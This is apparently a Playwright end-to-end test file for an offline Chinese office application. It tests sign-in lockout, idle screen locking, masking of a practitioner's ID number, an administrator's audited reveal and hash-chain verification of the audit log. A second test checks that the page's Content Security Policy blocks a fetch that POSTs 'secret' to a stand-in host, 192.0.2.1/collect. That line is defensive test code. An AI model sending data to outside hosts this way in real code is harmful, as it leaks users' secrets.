import { expect, test } from '@playwright/test';
import { accounts, createUser, setUpOffice, shot, signIn, signInFirstTime, signOut } from './fixtures.ts';
import { browserContentSecurityPolicy } from '../../electron/csp.ts';

test.use({ locale: 'zh-CN' });

const practitioner = { name: '王秀兰', idNumber: '11010519491231002X', phone: '13812345678' };

/**
 * The end-to-end path in the browser shell, offline: sign in, a failed attempt, the idle lock
 * (Playwright's clock skips the minute), another user at the lock screen, masked ID numbers for a clerk
 * and clear ones for an administrator after an audited reveal, and the auditor finding all of it.
 */
test('signs in offline, locks when idle, masks personal data and audits every step', async ({
  page,
  context,
}) => {
  await page.clock.install();
  await setUpOffice(page);
  await context.setOffline(true);
  await createUser(page, accounts.clerk);
  await createUser(page, accounts.auditor);
  await page.screenshot(shot('security-users'));

  await page.getByRole('link', { name: '设置' }).click();
  await page.getByLabel('无操作多少分钟后锁屏').fill('1');
  await page.getByRole('region', { name: '自动锁屏' }).getByRole('button', { name: '保存' }).click();
  await expect(page.getByText('已设置为无操作 1 分钟后锁屏')).toBeVisible();
  await signOut(page);

  // A wrong password is refused with the attempts left, then the clerk's first sign-in.
  await signIn(page, accounts.clerk.username, 'Not-the-password1');
  await expect(page.getByRole('alert').filter({ hasText: '用户名或密码' })).toHaveText(
    '用户名或密码不正确。再错 4 次将锁定该账号。',
  );
  await page.screenshot(shot('security-sign-in-failed'));
  await signInFirstTime(page, accounts.clerk);
  await expect(page.getByRole('heading', { name: '工作台' })).toBeVisible();

  await page.getByRole('link', { name: '信用主体' }).click();
  await page.getByRole('link', { name: '登记从业人员' }).click();
  await page.getByLabel('姓名').fill(practitioner.name);
  await page.getByLabel('公民身份号码').fill(practitioner.idNumber);
  await page.getByLabel('联系电话').fill(practitioner.phone);
  await page.getByRole('button', { name: '保存' }).click();
  await expect(page.getByRole('heading', { name: practitioner.name })).toBeVisible();
  await expect(page.getByTestId('subject-code')).toHaveText('110105********002X');
  await expect(page.getByText('138****5678')).toBeVisible();
  await expect(page.getByRole('button', { name: '查看完整信息' })).toHaveCount(0);
  await expect(page.getByText(practitioner.idNumber)).toHaveCount(0);
  await page.screenshot(shot('security-clerk-masked'));

  // A minute without input locks the screen.
  await page.clock.fastForward('01:05');
  await expect(page.getByRole('heading', { name: '屏幕已锁定' })).toBeVisible();
  await expect(page.getByText('李明 长时间未操作，已自动锁定。')).toBeVisible();
  await page.screenshot(shot('security-locked'));

  // The administrator signs in at the lock screen and reveals the ID number, with a reason.
  await signIn(page, accounts.admin.username, accounts.admin.password);
  await expect(page.getByTestId('user-menu')).toHaveText(accounts.admin.displayName);
  await page.getByRole('link', { name: '信用主体' }).click();
  await expect(page.getByTestId('subject-table').getByText('110105********002X')).toBeVisible();
  await page.getByRole('link', { name: practitioner.name }).click();
  await expect(page.getByTestId('subject-code')).toHaveText('110105********002X');
  await page.getByRole('button', { name: '查看完整信息' }).click();
  await page.getByLabel('理由').fill('核对投标人身份');
  await page.getByRole('button', { name: '查看', exact: true }).click();
  await expect(page.getByTestId('subject-code')).toHaveText(practitioner.idNumber);
  await expect(page.getByText(practitioner.phone)).toBeVisible();
  await page.screenshot(shot('security-admin-revealed'));
  await signOut(page);

  // The auditor finds each of these actions in the trail, and the chain verifies.
  await signInFirstTime(page, accounts.auditor);
  await page.getByRole('link', { name: '审计日志' }).click();
  const trail = page.getByTestId('audit-table');
  // Each entry reads as a sentence starting with who acted.
  const row = (user: string, action: string) =>
    trail
      .getByRole('row')
      .filter({ has: page.getByRole('cell', { name: new RegExp(`^${user}`) }) })
      .filter({
        has: page.getByRole('cell', { name: action, exact: true }),
      });
  await expect(row('张敏（zhangmin）', '登录').first()).toBeVisible();
  await expect(row('李明（liming）', '登录失败')).toHaveCount(1);
  await expect(row('李明（liming）', '登录')).toHaveCount(1);
  await expect(row('李明（liming）', '新增')).toHaveCount(1);
  await expect(row('李明（liming）', '长时间未操作，自动锁定')).toHaveCount(1);
  await expect(row('张敏（zhangmin）', '查看个人信息')).toContainText('核对投标人身份');
  await expect(trail).not.toContainText(practitioner.idNumber);
  await expect(trail).not.toContainText(practitioner.phone);

  await page.getByRole('combobox', { name: '操作' }).click();
  await page.getByRole('option', { name: '查看个人信息' }).click();
  await page.getByRole('button', { name: '搜索' }).click();
  await expect(trail.getByRole('row')).toHaveCount(2);
  await page.getByRole('button', { name: '校验哈希链' }).click();
  await expect(page.getByTestId('audit-verification')).toContainText('校验通过');
  await page.screenshot(shot('security-audit-trail'));
});

/** The built index.html carries the browser build's policy from electron/csp.ts, and only that one. */
test('the built page enforces the one browser policy: no request to a host outside it', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) violations.push(message.text());
  });
  await page.goto('/');
  const metas = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .evaluateAll((elements) => elements.map((element) => element.getAttribute('content')));
  expect(metas).toEqual([browserContentSecurityPolicy]);
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('http://192.0.2.1/collect', { method: 'POST', body: 'secret' });
      return false;
    } catch {
      return true;
    }
  });
  expect(blocked).toBe(true);
  expect(violations.join('\n')).toContain('192.0.2.1');
});
